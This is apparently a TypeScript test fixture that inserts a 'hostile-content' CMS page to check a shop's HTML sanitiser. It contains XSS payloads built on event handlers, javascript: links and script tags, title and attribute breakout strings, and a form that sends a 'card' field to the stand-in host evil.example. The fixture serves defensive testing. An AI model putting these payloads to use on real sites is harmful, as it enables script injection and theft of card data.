/** A page whose CMS content attacks the sanitiser. Only the shop under test has it. */
const CONTENT = [
  '&lt;img src=x onerror="document.title=1"&gt;',
  '&lt;form action="https://evil.example"&gt;&lt;input name="card"&gt;&lt;/form&gt;',
  '<p onclick="document.title=1">Plain words</p>',
  '<a href="javascript:document.title=1">A link</a>',
  '<svg><script>document.title=1</script></svg><iframe src="https://evil.example"></iframe>',
  '<div data-widget="faq"><div data-question="&lt;img src=x onerror=1&gt;"><img src="/kea.svg" onerror=1 onload="document.title=1"></div></div>',
].join('\n')

const text = (value: string) => `'${value.replaceAll("'", "''")}'`

export const hostilePage = `INSERT INTO pages (id, slug, name, heading, content, meta_title, meta_description)
  VALUES (900001, 'hostile-content', 'Hostile', ${text('Hostile <b>heading</b> "quoted"')}, ${text(CONTENT)},
  ${text('</title><script>document.title=1</script>')}, ${text('"><img src=x onerror=1>')})`
